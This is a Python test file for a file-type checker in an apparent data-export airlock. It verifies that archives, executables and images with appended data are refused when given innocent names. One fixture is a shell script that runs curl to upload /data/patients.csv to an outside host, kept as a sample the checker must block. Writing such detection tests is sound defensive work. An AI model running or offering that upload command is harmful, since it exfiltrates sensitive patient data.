"""What a file's bytes really are (:mod:`sde_airlock.filetypes`), tested on real files.

Every sample is made by the tool that makes such files (zipfile, tarfile, gzip, sqlite3,
pyarrow, pickle, Pillow), so the magic numbers are the real ones. Results are compared whole:
the kind the name promises, the kind the bytes are, and every problem with its message.
"""

from __future__ import annotations

import bz2
import gzip
import io
import json
import lzma
import pickle
import sqlite3
import struct
import tarfile
import zipfile

import pyarrow as pa
import pyarrow.parquet as pq
import pytest
from PIL import Image

from sde_airlock.filetypes import (
    HEAD_BYTES,
    Inspector,
    Problem,
    TypeCheck,
    check_bytes,
    kind_for_name,
    sniff,
)

CSV = b"region,n\nnorth,120\nsouth,98\n"
ELF = b"\x7fELF\x02\x01\x01\x00" + b"\x00" * 8 + b"\x02\x00\x3e\x00" + b"\x00" * 1000


def zip_bytes() -> bytes:
    out = io.BytesIO()
    with zipfile.ZipFile(out, "w") as z:
        z.writestr("patients.csv", "nhs_number,hba1c\n9434765919,71\n")
    return out.getvalue()


def tar_bytes() -> bytes:
    out = io.BytesIO()
    with tarfile.open(fileobj=out, mode="w") as t:
        info = tarfile.TarInfo("patients.csv")
        info.size = 4
        t.addfile(info, io.BytesIO(b"a,b\n"))
    return out.getvalue()


def sqlite_bytes(tmp_path) -> bytes:
    path = tmp_path / "cohort.sqlite"
    with sqlite3.connect(path) as db:
        db.execute("create table t (x)")
    db.close()
    return path.read_bytes()


def parquet_bytes() -> bytes:
    out = io.BytesIO()
    pq.write_table(pa.table({"n": [1, 2]}), out)
    return out.getvalue()


def image_bytes(fmt: str, **kw) -> bytes:
    out = io.BytesIO()
    Image.new("RGB", (17, 9), (10, 200, 30)).save(out, fmt, **kw)
    return out.getvalue()


PNG = image_bytes("PNG")
JPEG = image_bytes("JPEG")
NOTEBOOK = json.dumps({"nbformat": 4, "nbformat_minor": 5, "metadata": {}, "cells": []}).encode()

MAGIC_SAMPLES = {
    "zip": zip_bytes(),
    "gzip": gzip.compress(CSV),
    "bzip2": bz2.compress(CSV),
    "xz": lzma.compress(CSV),
    "7z": b"7z\xbc\xaf\x27\x1c\x00\x04" + b"\x00" * 24,
    "rar": b"Rar!\x1a\x07\x01\x00" + b"\x00" * 24,
    "tar": tar_bytes(),
    "zstd": b"\x28\xb5\x2f\xfd\x24\x04\x21\x00\x00x" * 4,
    "pdf": b"%PDF-1.7\n%\xe2\xe3\xcf\xd3\n1 0 obj\n<<>>\nendobj\n%%EOF\n",
    "elf": ELF,
    "pe": b"MZ\x90\x00\x03\x00\x00\x00" + b"\x00" * 52 + struct.pack("<I", 64) + b"PE\x00\x00",
    "macho": b"\xcf\xfa\xed\xfe\x07\x00\x00\x01" + b"\x00" * 24,
    "script": b"#!/bin/sh\ncurl -T /data/patients.csv https://example.org/\n",
    "pickle": pickle.dumps({"rows": [1, 2]}, protocol=4),
    "parquet": parquet_bytes(),
    "png": PNG,
    "jpeg": JPEG,
}


@pytest.mark.parametrize("kind", sorted(MAGIC_SAMPLES))
def test_each_magic_number_is_named(kind):
    assert sniff(MAGIC_SAMPLES[kind][:HEAD_BYTES]) == kind


def test_sqlite_is_named_and_text_is_not_a_magic_kind(tmp_path):
    assert sniff(sqlite_bytes(tmp_path)) == "sqlite"
    assert sniff(CSV) is None
    assert sniff(b"MZ is a region code,n\n") is None  # MZ text without the binary header
    assert sniff(b"") is None


def test_names_promise_kinds_case_insensitively():
    assert [kind_for_name(n) for n in ("a.CSV", "out/x.ipynb", "Fig.PNG", "p.jpeg", "notes.R")] == [
        "text",
        "notebook",
        "png",
        "jpeg",
        "text",  # an ending the table does not know promises text
    ]


@pytest.mark.parametrize(
    ("name", "data", "detected"),
    [
        ("out/results.csv", CSV, "text"),
        ("notes.md", "# Résumé — n ≥ 10\n".encode(), "text"),
        ("empty.txt", b"", "text"),
        ("analysis.ipynb", NOTEBOOK, "notebook"),
        ("model.json", b'{"auc": 0.81, "n": [1, 2]}', "json"),
        ("fig.png", PNG, "png"),
        ("fig.jpg", JPEG, "jpeg"),
        ("fig.jpeg", image_bytes("JPEG", progressive=True, quality=50), "jpeg"),
        ("table.parquet", parquet_bytes(), "parquet"),
        ("model.pkl", pickle.dumps([1, 2], protocol=5), "pickle"),
        ("paper.pdf", MAGIC_SAMPLES["pdf"], "pdf"),
    ],
)
def test_files_that_are_what_their_names_say_pass_whole(name, data, detected):
    expected = kind_for_name(name)
    assert check_bytes(name, data) == TypeCheck(name, expected, detected, len(data), ())


def test_an_elf_named_results_csv_is_a_mismatch_and_a_program():
    assert check_bytes("results.csv", ELF) == TypeCheck(
        "results.csv",
        "text",
        "elf",
        len(ELF),
        (
            Problem(
                "type_mismatch",
                "results.csv: the name says UTF-8 text but the bytes are an ELF executable",
                "results.csv",
            ),
            Problem(
                "executable",
                "results.csv: the bytes are an ELF executable: programs are never exported",
                "results.csv",
            ),
        ),
    )


def test_a_zip_named_table_png_is_a_mismatch_and_an_archive():
    data = zip_bytes()
    assert check_bytes("table.png", data) == TypeCheck(
        "table.png",
        "png",
        "zip",
        len(data),
        (
            Problem(
                "type_mismatch",
                "table.png: the name says a PNG image but the bytes are a ZIP archive",
                "table.png",
            ),
            Problem(
                "archive",
                "table.png: the bytes are a ZIP archive: archives are never exported, since a "
                "checker cannot see inside them; export the files in it",
                "table.png",
            ),
        ),
    )


@pytest.mark.parametrize(
    ("name", "kind"),
    [
        ("results.csv", "zip"),
        ("notes.txt", "gzip"),
        ("fig.jpg", "tar"),
        ("model.json", "xz"),
        ("report.md", "7z"),
        ("analysis.ipynb", "bzip2"),
        ("summary.html", "rar"),
        ("fig.png", "zstd"),
    ],
)
def test_archives_under_innocent_names_are_refused(name, kind):
    check = check_bytes(name, MAGIC_SAMPLES[kind])
    assert check.detected == kind
    assert [p.code for p in check.problems] == ["type_mismatch", "archive"]


@pytest.mark.parametrize("kind", ["elf", "pe", "macho", "script"])
def test_programs_under_innocent_names_are_refused(kind):
    check = check_bytes("table.tsv", MAGIC_SAMPLES[kind])
    assert [p.code for p in check.problems] == ["type_mismatch", "executable"]


def test_a_png_header_on_an_elf_is_not_a_png():
    fake = PNG[:8] + ELF
    check = check_bytes("fig.png", fake)
    assert check.problems == (
        Problem(
            "type_mismatch",
            "fig.png: the bytes start like a PNG image but are not one: the first chunk is not "
            "IHDR",
            "fig.png",
        ),
    )
    # a whole valid header (signature + IHDR) and then the program: the next chunk is garbage
    header_then_elf = PNG[:33] + ELF
    assert [p.code for p in check_bytes("fig.png", header_then_elf).problems] == ["type_mismatch"]


@pytest.mark.parametrize(
    ("name", "data", "why"),
    [
        ("fig.png", PNG + ELF, "bytes after the image's end (IEND chunk)"),
        ("fig.png", PNG[:-12], "it ends before its IEND chunk"),
        ("fig.png", PNG[:20] + bytes([PNG[20] ^ 1]) + PNG[21:], "a bad CRC in chunk IHDR"),
        ("fig.jpg", JPEG + ELF, "bytes after the image's end (EOI marker)"),
        ("fig.jpg", JPEG[: len(JPEG) // 2], "it ends before its end-of-image marker"),
        ("fig.jpg", b"\xff\xd8\xff\xd9", "no image data (scan) before the end marker"),
    ],
)
def test_images_are_walked_to_their_end(name, data, why):
    (problem,) = check_bytes(name, data).problems
    assert problem.code == "type_mismatch" and problem.message.endswith(why), problem


@pytest.mark.parametrize(
    ("name", "data", "why"),
    [
        ("analysis.ipynb", b'{"cells": [', "the bytes are not valid JSON"),
        ("analysis.ipynb", b"[1, 2]", "the bytes are JSON but not a notebook (not an object)"),
        ("analysis.ipynb", b'{"a": 1}', "not a notebook (no nbformat version)"),
        (
            "analysis.ipynb",
            b'{"nbformat": 4, "nbformat_minor": 5, "cells": "x", "metadata": {}}',
            "the bytes are JSON but not a valid notebook",
        ),
        ("model.json", b"[1, NaN]", "the bytes are not valid JSON (NaN is not JSON)"),
        ("model.json", b"", "the bytes are not valid JSON"),
        ("results.csv", b"a,b\n1,\x002\n", "not UTF-8 text (a NUL byte at offset 6)"),
        ("results.csv", b"caf\xe9,1\n", "not UTF-8 text (bytes that are not UTF-8 at offset 3)"),
        ("results.csv", "n≥".encode()[:-1], "not UTF-8 text (an incomplete UTF-8 character"),
        ("table.parquet", parquet_bytes()[:-1], "do not end like a Parquet file (PAR1)"),
    ],
)
def test_text_json_and_notebooks_must_be_valid(name, data, why):
    (problem,) = check_bytes(name, data).problems
    assert problem.code == "type_mismatch" and why in problem.message, problem


def test_text_named_as_an_image_is_a_mismatch():
    assert check_bytes("fig.png", CSV) == TypeCheck(
        "fig.png",
        "png",
        "text",
        len(CSV),
        (
            Problem(
                "type_mismatch",
                "fig.png: the name says a PNG image but the bytes are not one",
                "fig.png",
            ),
        ),
    )


@pytest.mark.parametrize(
    ("name", "data"),
    [
        ("fig.png", PNG),
        ("fig.jpg", image_bytes("JPEG", progressive=True)),
        ("notes.md", "α,β\n" * 300),
        ("fig.png", PNG + b"x"),
        ("results.csv", ELF),
    ],
)
def test_streaming_byte_by_byte_gives_the_same_result_as_whole(name, data):
    data = data.encode() if isinstance(data, str) else data
    inspector = Inspector(name)
    for i in range(len(data)):
        inspector.feed(data[i : i + 1])
    assert inspector.result(lambda: data) == check_bytes(name, data)


def test_an_inspector_knows_early_when_the_bytes_already_fail():
    bad = Inspector("results.csv")
    bad.feed(ELF[:HEAD_BYTES])
    assert bad.failed  # the rest need not be stored
    good = Inspector("results.csv")
    good.feed(CSV * 100)
    assert not good.failed
    nul = Inspector("results.csv")
    nul.feed(b"a,b\n\x00")
    assert nul.failed


def test_json_and_notebooks_need_their_whole_bytes():
    inspector = Inspector("model.json")
    inspector.feed(b"{}")
    assert inspector.needs_whole
    with pytest.raises(ValueError, match="checked whole"):
        inspector.result()


def test_json_nested_too_deeply_is_a_clear_refusal_not_a_crash():
    deep = b"[" * 100_000 + b"]" * 100_000
    result = check_bytes("deep.json", deep)
    assert not result.ok and "nested too deeply" in result.problems[0].message
